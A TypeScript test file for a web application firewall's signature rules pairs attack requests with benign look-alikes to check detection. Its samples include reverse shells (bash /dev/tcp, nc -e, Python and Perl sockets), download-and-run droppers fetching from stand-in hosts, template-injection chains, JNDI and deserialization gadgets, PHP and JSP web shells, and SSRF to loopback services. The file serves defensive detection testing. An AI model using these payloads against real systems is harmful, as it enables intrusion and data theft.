/**
 * Rules of revs 2026-12-04b–d and 2026-12-05a (issue 18, generalization): each describes an exploit *mechanism* — a
 * command injected after a short value, a reverse shell, a language's process primitive, a template
 * engine's object chain, a template included by URL — not one product's request. Each fires on its
 * attack wherever the value sits (query, form, JSON, XML, header) and stays quiet on the benign text
 * closest to it: the shapes the generated benign families carry on purpose (a CI script piping an
 * installer to sh, a Q&A quoting os.system or Runtime.exec, `$(nproc)` in a build command).
 */
import { beforeAll, describe } from 'vitest';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { JSON_HEADERS, XML_HEADERS, bundledGate, form, header, hitsOf, json, q, testRuleCases, xml } from './bundled-requests.js';

let gate: CompiledSignatureGate;
beforeAll(async () => {
  gate = await bundledGate();
});
const hits = (spec: RequestSpec): Array<[number, string]> => hitsOf(gate, spec);

// [sid, attack name, attack, benign near miss]; every one of these rules blocks alone
const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
  [9000314, 'a pipe and a download inside a query value', q('poller_id=1%7Ccurl%20-O%20http%3A%2F%2Fx.test%2Fa'), q('fields=name%7Cid&sort=title')],
  [9000314, 'a pipe and uname -a inside a form value', form('user=root&old=abcd%7Cuname+-a&new1=x'), form('message=I+tried+chmod+%2Bx+install.sh%3B+still+the+same.')],
  [9000384, 'a backticked probe after a short value', q('id=1%60echo%20abc123%60'), q('q=the+%60echo%60+builtin')],
  [9000314, 'a substitution with a download in an XML element', xml('<a><NewStatusURL>$(wget -q -O- http://x.test/x.sh|sh)</NewStatusURL></a>'), xml('<a><Script>make -j$(nproc) all</Script></a>')],
  [9000384, 'a substitution writing a probe file', xml('<language>$(echo abc>webLib/x)</language>'), xml('<note>$(cat hosts.txt) lists the hosts</note>')],
  [9000314, 'a backtick command in a header value', header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), header('X-Note', 'run `curl localhost:8080/ping` to check')],
  [9000385, 'a separator and a shell -c in JSON', json('{"host":"127.0.0.1;sh -c id"}'), json('{"script":["curl -fsSL https://get.example.dev/install.sh | sh"]}')],
  [9000375, 'a separator then a command spaced with ${IFS}', q('ip=127.0.0.1%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd'), q('doc=IFS%3D%24%27%5Cn%27+splits+on+newlines')],
  [9000375, 'a separator and a system-file probe as a multipart field value', { method: 'POST', url: '/upload', headers: [['Host', 'x.test'], ['Content-Type', 'multipart/form-data; boundary=BB']], body: `--BB\r\nContent-Disposition: form-data; name="note"\r\n\r\nx;cat /etc/passwd\r\n--BB--\r\n` }, { method: 'POST', url: '/upload', headers: [['Host', 'x.test'], ['Content-Type', 'multipart/form-data; boundary=BB']], body: `--BB\r\nContent-Disposition: form-data; name="note"\r\n\r\nI ran cat on /etc/hosts; it was fine\r\n--BB--\r\n` }],
  [9000313, 'git --exec after a NUL that ends the checked value', { url: '/rest/api/latest/projects/P/repos/r/archive?filename=a&prefix=ab%00--exec=%60id%60%00--remote=origin' }, q('q=find+.+-exec+rm+%7B%7D&flags=--exec-path')],
  [9000315, 'a bash /dev/tcp reverse shell', json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), json('{"doc":"/dev/tcp is a bash feature"}')],
  [9000315, 'a download then chmod of a file in /tmp', json('{"command":"curl -O http://x.test/a;chmod +x /tmp/a;/tmp/a"}'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl"]}')],
  [9000315, 'nc -e with a shell', q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), q('q=nc+-e+option+removed')],
  [9000315, 'nc with host and port before -e', json('{"file":"report.pdf | nc evil.test 4444 -e /bin/sh"}'), json('{"doc":"nc host 4444 -e is removed from OpenBSD netcat"}')],
  [9001331, 'a $ne operator on a password form field', form('user=admin&pass%5B%24ne%5D=x'), q('filters%5Bprice%5D%5B%24gt%5D=10&filters%5Btitle%5D%5B%24eq%5D=hello')],
  [9001331, 'a $regex operator on a JSON username', json('{"username":{"$regex":"^adm"},"password":{"$ne":""}}'), json('{"where":{"createdAt":{"$gt":"2026-01-01"}},"user":"ann"}')],
  [9000316, 'a probe as a command field value', json('{"am-container-spec":{"commands":{"command":"cat /etc/passwd"}}}'), json('{"command":"cat /etc/config/app.yaml | envsubst"}')],
  [9000316, 'a probe as a job entrypoint', json('{"entrypoint":"ifconfig","runtime_env":{}}'), json('{"entrypoint":"python train.py --epochs 3","runtime_env":{}}')],
  [9000316, 'whoami as the cmd parameter', q('todo=syscmd&cmd=whoami&x=1'), q('cmd=search&q=whoami')],
  [9001320, "__import__('os').popen", q('cmd=__import__(%27os%27).popen(%27id%27).read()'), json('{"body":"What does `__import__(\'os\')` do and why do linters flag it?"}')],
  [9001320, 'subprocess with shell=True', q('cmd=import%20subprocess%3Bsubprocess.check_output(%27id%27%2Cshell%3DTrue)'), json('{"content":"import subprocess\\nout = subprocess.check_output([\'uname\', \'-a\'])"}')],
  [9001320, 'os.system of a command', form('code=os.system(%27wget+http%3A%2F%2Fx.test%2Fa%27)'), json('{"body":"`os.system(\'cls\' if os.name == \'nt\' else \'clear\')` does not clear the console"}')],
  // Rev 3 (2026-12-06u): the command is a whole literal; a program building it from a variable is code under discussion.
  [9001320, 'os.system of a literal command in JSON', json('{"code":"import os; os.system(\\"rm -rf /tmp/x; id\\")"}'), json('{"diff_hunk":"@@ -1,2 +1,2 @@\\n-    os.system(\'rm -rf \' + tmpdir)\\n+    shutil.rmtree(tmpdir)"}')],
  [9001320, 'os.popen of a literal command, percent-encoded', q('x=os.popen(%22cat%20%2Fetc%2Fpasswd%22).read()'), q('q=os.popen(%22ls+%22+%2B+path)')],
  [9001321, 'a Groovy string .execute()', form('script=println+%22id%22.execute().text'), form('code=cur.execute(%22SELECT+1%22)')],
  [9001321, 'a Groovy list .execute()', form('script=def+p+%3D+%5B%22sh%22%2C%22-c%22%2C%22id%22%5D.execute()'), json('{"body":"Runtime.getRuntime().exec(\\"notepad.exe\\") works on my machine"}')],
  [9001321, 'a ProcessBuilder of sh -c', form('script=new+ProcessBuilder(%22sh%22%2C%22-c%22%2C%22id%22).start()'), form('script=new+ProcessBuilder(%22git%22%2C%22log%22).start()')],
  [9001322, 'a FreeMarker Execute', form('tpl=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D'), form('tpl=%3C%23assign+total%3Dprice*2%3E')],
  [9001322, 'a Velocity #set reaching Runtime', q('v=%23set(%24x%3D%24e.getClass().forName(%22java.lang.Runtime%22))'), q('v=%23set(%24total+%3D+%24price+*+2)')],
  [9001324, 'a Jinja2 dunder chain', json('{"name":"{{ cycler.__init__.__globals__.os.popen(\'id\').read() }}"}'), json('{"doc":"__init__ runs when the class is instantiated"}')],
  [9001322, 'a Thymeleaf preprocessing expression', q('lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__%3A%3A.x'), q('lang=__en__')],
  [9001323, 'a template parameter naming an FTP template', json('{"params":{"_template":"ftp://x.test/x.vm"}}'), json('{"params":{"template":"https://cdn.example.com/emails/welcome.html"}}')],
  [9001323, 'a template parameter with a traversal', q('template=..%2F..%2FWEB-INF%2Fweb.xml'), q('template=invoice-2024&layout=wide')],
  [9000318, 'certutil fetching a URL', q('cmd=certutil+-urlcache+-split+-f+http%3A%2F%2Fx.test%2Fa.exe+%25TEMP%25%5Ca.exe'), q('q=certutil+-urlcache+cleanup')],
  [9000318, 'a web request piped to iex', json('{"c":"powershell -c \\"iwr https://x.test/a.ps1 -useb|iex\\""}'), json('{"content":"Invoke-WebRequest -Uri https://example.com/file.zip -OutFile $env:TEMP\\\\file.zip"}')],
  [9001325, 'a JSP page running a request parameter', { method: 'PUT', url: '/x.jsp', body: '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>' }, json('{"body":"Runtime.getRuntime().exec(\\"notepad.exe\\") works on my machine"}')],
  [9001325, 'an ASP page running Request()', { method: 'PUT', url: '/x.asp', body: '<% Set o = Server.CreateObject("WScript.Shell") : Response.Write o.Exec("cmd /c " & Request("c")).StdOut.ReadAll() %>' }, json('{"doc":"CreateObject(\\"WScript.Shell\\") is how old scripts open a shell"}')],
  [9001326, 'a PHP exec function with a probe', form('widgetConfig%5Bcode%5D=echo+shell_exec(%27uname+-a%27)%3B+exit%3B'), json('{"body":"Ruby: `%x(ls -1)` returns a string, `system(\'ls\')` returns true"}')],
  [9001326, 'child_process required and called in one expression', json('{"sheet":[".es(*).props(label.__proto__.env.A=\'require(\\"child_process\\").exec(\\"id\\")\')"]}'), json('{"content":"const { exec } = require(\'child_process\');\\nexec(\'git rev-parse HEAD\')"}')],
  [9001013, 'a PHP serialized Monolog handler', form('data=O%3A32%3A%22Monolog%5CHandler%5CSyslogUdpHandler%22%3A1%3A%7Bs%3A9%3A%22%00*%00socket%22%3BN%3B%7D'), form('data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D')],
  [9001327, 'a Commons Text script lookup', q('q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D'), q('tpl=%24%7Bscript.name%7D+and+%24%7Burl%7D')],
  [9001327, 'a Commons Text DNS lookup of an outside name', json('{"text":"${dns:address|x1y2.attacker.test}","lang":"fr"}'), json('{"text":"${dns} and ${address|upper} are placeholders"}')],
  [9001328, 'a Twig filter callback to system', json('{"name":"{{[\'id\']|filter(\'system\')}}"}'), json('{"name":"{{ items|filter(v => v.active) }}"}')],
  [9001328, 'an ERB tag with backticks', form('tpl=%3C%25%3D+%60id%60+%25%3E'), form('tpl=%3C%25%3D+user.name+%25%3E')],
  [9001015, 'a fastjson @type key spelled with \\x escapes', json('{"@\\x74ype":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test:1389/E","autoCommit":true}'), json('{"@context":"https://schema.org","@type":"Person","name":"Ann","url":"https://example.com"}')],
  [9001015, 'a fastjson type in JVM descriptor form', json('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"rmi://x.test/E"}'), json('{"@type":"Offer","price":"10;","note":"L.a;"}')],
  [9001015, 'an @type object with a JNDI URL in a nested property', json('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://x.test:389/E"}}'), json('{"directory":{"type":"ldap","url":"ldap://ldap.example.com:389/dc=example,dc=com"},"@type":"Settings"}')],
  [9001016, 'a node-serialize function in a URL-encoded JSON cookie', header('Cookie', 'lang=en; profile=%7B%22rce%22%3A%22_%24%24ND_FUNC%24%24_function()%7Brequire(%27child_process%27).exec(%27id%27)%7D()%22%7D'), header('Cookie', 'lang=en; prefs=%7B%22theme%22%3A%22dark%22%2C%22fn%22%3A%22ND_FUNC%22%7D')],
  [9001250, 'a letter percent-encoded twice in the path', { method: 'POST', url: '/%2577ebui_wsma_HTTP', headers: XML_HEADERS, body: '<a/>' }, { url: '/share/https%253A%252F%252Fexample.com%252Fa%2520b?next=%2541' }],
  [9000319, 'a Python socket reverse shell in a JSON value', json('{"entrypoint":"python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect((\\"203.0.113.9\\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\\"/bin/sh\\",\\"-i\\"])\'"}'), json('{"body":"s = socket.socket()\\ns.connect((\\"localhost\\", 8080))\\ns.sendall(b\\"ping\\")"}')],
  [9000319, 'a Perl Socket reverse shell in a query', q('c=perl+-e+%27use+Socket%3B%24i%3D%22203.0.113.9%22%3Bsocket(S%2CPF_INET%2CSOCK_STREAM%2C6)%3Bif(connect(S%2Csockaddr_in(4444%2Cinet_aton(%24i))))%7Bexec(%22%2Fbin%2Fsh+-i%22)%3B%7D%27'), q('q=perl+use+Socket+connect+example')],
  [9001329, 'an H2 URL running a remote script', form('driver=org.h2.Driver&url=jdbc%3Ah2%3Amem%3A%3BINIT%3DRUNSCRIPT+FROM+%27http%3A%2F%2Fx.test%2Fa.sql%27&user=sa'), form('driver=org.h2.Driver&url=jdbc%3Ah2%3Amem%3Atest%3BINIT%3DRUNSCRIPT+FROM+%27classpath%3Aschema.sql%27&user=sa')],
  [9001329, 'an H2 alias with Java source starting a process', json('{"details":{"db":"file:/tmp/x;INIT=CREATE ALIAS E AS \'String e(String c) throws java.io.IOException {Runtime.getRuntime().exec(c);return c;}\'\\\\;CALL E(\'id\')"}}'), json('{"sql":"CREATE ALIAS MY_SUM FOR \\"com.example.Functions.sum\\""}')],
  [9001329, 'an H2 trigger with a JavaScript body', json('{"db":"zip:/app/x.jar!/s.db;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\\njava.lang.Runtime.getRuntime().exec(\'id\')\\n$$--=x"}'), json('{"sql":"CREATE TRIGGER audit_t AFTER INSERT ON orders FOR EACH ROW CALL \\"com.example.AuditTrigger\\""}')],
  [9001507, 'the TeamCity token path ending in /RPC2', { method: 'POST', url: '/app/rest/users/id:1/tokens/RPC2' }, { method: 'POST', url: '/app/rest/users/id:1/tokens/ci-token' }],
  [9001508, 'a JSON object granting roles twice', { method: 'PUT', url: '/_users/org.couchdb.user:x', headers: JSON_HEADERS, body: '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"p"}' }, { method: 'PUT', url: '/db/_security', headers: JSON_HEADERS, body: '{"admins":{"names":[],"roles":["ops","dba"]},"members":{"names":[],"roles":["dev"]}}' }],
  // rev 2026-12-04d (session 9): the mechanisms of held-out-3's misses
  [9000320, 'a container Cmd argv running a download piped to a shell', json('{"Image":"alpine","Cmd":["/bin/sh","-c","wget -q -O- http://x.test/a|sh"],"HostConfig":{}}'), json('{"command":["/bin/sh","-c","npm ci && npm test"]}')],
  [9000320, 'a service-check Args argv running a probe', json('{"ID":"w","Check":{"Args":["sh","-c","uname -a"],"Interval":"10s"}}'), json('{"ID":"w","Check":{"Args":["/usr/local/bin/check_disk","-w","10%"],"Interval":"10s"}}')],
  [9000320, 'an argv chrooting into the host mount', json('{"Cmd":[\n  "/bin/sh",\n  "-c",\n  "chroot /mnt sh -c \'curl -O http://x.test/a\'"\n]}'), json('{"args":["bash","-c","curl -fsS http://127.0.0.1:8080/healthz"]}')],
  [9000321, 'a binary-path setting pointed at sh -c with a download piped to a shell', form('_step=2&_im_convert_path=%2Fbin%2Fsh+-c+%27wget+-q+-O-+http%3A%2F%2Fx.test%2Fa%7Csh%27+%23&submit=UPDATE'), form('_step=2&_im_convert_path=%2Fusr%2Fbin%2Fconvert&_im_identify_path=%2Fusr%2Fbin%2Fidentify')],
  [9000321, 'a JSON value that is sh -c with a probe', json('{"hook":"sh -c \'id\'"}'), json('{"hook":"sh -c \'make test\'"}')],
  [9000522, 'an OpenID Connect request_uri naming a private address', { url: '/realms/master/protocol/openid-connect/auth?client_id=account&response_type=code&request_uri=http%3A%2F%2F10.0.0.1%3A9990%2Finfo' }, { url: '/realms/master/protocol/openid-connect/auth?client_id=app&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback' }],
  [9000523, 'a registered jwks_uri on the loopback', json('{"client_name":"x","jwks_uri":"http://127.0.0.1:8080/admin"}'), json('{"client_name":"x","jwks_uri":"https://app.example.com/.well-known/jwks.json","redirect_uris":["http://localhost:3000/cb"]}')],
  [9001017, 'a Jackson wrapper array naming a JNDI gadget', json('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x.test:1389/E"}]'), json('["com.example.model.Directory",{"url":"https://dir.example.com","type":"ldap"}]')],
  [9001332, 'a Lua filter function running os.execute', json('{"uri":"/x","filter_func":"function(vars) os.execute(\'id\'); return true end"}'), json('{"body":"In Lua, os.execute(\'clear\') clears the screen"}')],
  [9001332, 'a Lua io.popen fed from request args', json('{"script":"local f = assert(io.popen(args.cmd, \'r\'))"}'), json('{"doc":"io.popen(prog) returns a file handle"}')],
  [9001333, 'a PHP exec function as a hook parameter', form('sid=x&hhook=exec&text=id'), form('hook=after_save&callback=refreshList')],
  [9001333, 'a PHP exec function as a callback in the query', q('callback=system&arg=id'), q('callback=jQuery1830_1712&_=1712')],
  [9001334, 'PHP code in an odd header', header('User-Agentt', "zerodiumsystem('id');"), header('X-Note', 'call system() to run it')],
  [9001334, 'phpinfo() in a header', header('X-Debug', 'phpinfo();'), header('User-Agent', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)')],
  [9001509, 'a container binding the host root', json('{"Image":"alpine","HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true}}'), json('{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html:ro"]}}')],
  [9001509, 'a pod mounting the host root by hostPath', json('{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'), json('{"spec":{"volumes":[{"name":"d","hostPath":{"path":"/var/log/app"}}]}}')],
  [9001510, 'an HFS exec macro after a line-break value', q('n=%0A&search=%7D%7B.exec%7Csysteminfo%7Ctimeout%3D15%7Cout%3Dx.%7D%7B.%3Fx.%7D'), q('search=%7B.x%7D+template+docs&n=1')],
  [9001510, 'an HFS save macro writing a script', q('search=%00%7B.save%7CC%3A%5CUsers%5CPublic%5Ca.vbs%7Cx.%7D'), q('q=%7B.save%7D+button+does+nothing')],
  // rev 2026-12-05a (session 12): the mechanisms of held-out-4's misses
  [9000322, 'a backticked tftp download, chmod and run in a form value', form('langType=en%60cd+%2Ftmp+%26%26+tftp+-g+-r+mpsl+203.0.113.9+%26%26+chmod+%2Bx+mpsl+%26%26+.%2Fmpsl%60'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/"]}')],
  [9000322, 'a cd into /dev/shm, a download, chmod 777 and run after a pipe in JSON', json('{"command":"127.0.0.1|cd /dev/shm;wget http://x.test/x86_64;chmod 777 x86_64;./x86_64 z5"}'), form('message=I+ran+chmod+600+%7E%2F.ssh%2Fconfig%3B+ls+-la+%7E%2F.ssh')],
  [9000322, 'a cd into /var/tmp then busybox wget in the query', q('log=%3Bcd%20%2Fvar%2Ftmp%3Bbusybox%20wget%20http%3A%2F%2Fx.test%2Fa'), q('q=cd+%2Ftmp+then+wget+the+tarball+and+run+make')],
  [9000524, 'an image proxy path fetching the kubelet on the loopback', { url: '/unsafe/300x200/http://127.0.0.1:10250/pods' }, { url: '/unsafe/300x200/https://cdn.example.com/a.jpg' }],
  [9000524, 'a url parameter naming the Consul agent on [::1]', q('url=http%3A%2F%2F%5B%3A%3A1%5D%3A8500%2Fv1%2Fagent%2Fself'), json('{"callback_url":"http://localhost:3000/cb","api":"http://127.0.0.1:8080/api/v1/items"}')],
  [9000524, 'a model url naming Docker on 0.0.0.0', { method: 'POST', url: '/models?url=http://0.0.0.0:2375/containers/json' }, { method: 'POST', url: '/models?url=https://models.example.com/resnet-18.mar' }],
  [9000525, 'an image proxy path fetching a private address', { url: '/unsafe/100x100/smart/http%3A%2F%2F10.14.184.221%3A80%2F' }, { url: '/unsafe/100x100/smart/https%3A%2F%2Fimages.example.com%2Fa.jpg' }],
  [9000525, 'a thumbnailer path with a raw http:// URL to a private address (the normalized URI folds its //)', { url: '/unsafe/0x0/http://10.1.149.53:80/admin' }, { url: '/unsafe/0x0/http://images.example.com:80/a.png' }],
  [9000525, 'a fetch proxy path naming the IPv6 loopback', { url: '/proxy/http://[::1]:8080/admin' }, { url: '/docs/http://localhost-is-a-name/?next=http://127.0.0.1:3000/' }],
  [9001018, 'a hex-encoded ExpandedWrapper of ObjectDataProvider in a hidden field', form('ctl00%24hiddenSpanData=__bp53797374656d2e446174612e53657276696365732e496e7465726e616c2e457870616e64656457726170706572603262c4f626a6563744461746150726f7669646572'), form('hash=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08&id=4f626a65637444')],
  [9001335, 'an escaped NUL inside a JSON key in a form field', form('mode=151&json=%7B%22username%22%3A%22a%22%2C%22mode%5Cu0000x%22%3A151%7D'), form('mode=151&json=%7B%22username%22%3A%22a%22%2C%22mode%22%3A151%7D')],
  [9001335, 'an escaped NUL inside a JSON body key', json('{"user":"a","mode\\u0000x":1}'), json('{"text":"a\\u0000b","mode":1}')],
  [9001336, 'the Next.js middleware subrequest header from a client', header('x-middleware-subrequest', 'middleware:middleware:middleware'), header('X-Middleware-Cache', 'no-cache')],
  [9001336, 'a Camel exec header in an odd casing', header('cAmelExecCommandExecutable', 'id'), header('X-Camel-Route', 'orders')],
  [9001337, 'a Python exec of a base64-decoded blob', json('{"code":"@exec(__import__(\'base64\').b64decode(\'aWQ=\'))\\ndef f(): pass"}'), json('{"body":"base64.b64decode(s) returns bytes; exec is a builtin"}')],
  [9000806, 'a Kafka Connect JAAS config naming JndiLoginModule with an rmi provider URL', json('{"config":{"sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"rmi://x.test:1099/E\\" useFirstPass=\\"true\\";"}}'), json('{"config":{"sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required username=\\"u\\" password=\\"p\\";","ldap.url":"ldap://ldap.example.com:389"}}')],
  [9001407, 'a GIF signature then a PHP web shell in an upload', { method: 'POST', url: '/upload', headers: [['Host', 'x.test'], ['Content-Type', 'multipart/form-data; boundary=BB']], body: `--BB\r\nContent-Disposition: form-data; name="file"; filename="a.php"\r\nContent-Type: image/gif\r\n\r\nGIF89a\n<?php echo "x"; passthru($_GET['c']); ?>\r\n--BB--\r\n` }, { method: 'POST', url: '/upload', headers: [['Host', 'x.test'], ['Content-Type', 'multipart/form-data; boundary=BB']], body: `--BB\r\nContent-Disposition: form-data; name="file"; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a\u0001\u0000\u0001\u0000<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>\r\n--BB--\r\n` }],
  [9000121, 'a quote and an OR in a bearer token', header('Authorization', "Bearer abc'/**/or/**/'1'='1"), header('Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnLV94')],
];

describe('bundled rules for exploit mechanisms (issue 18, generalization)', () => {
  testRuleCases(CASES.map(([sid, name, attack, nearMiss]) => [sid, 'block', name, attack, nearMiss]), hits);
});
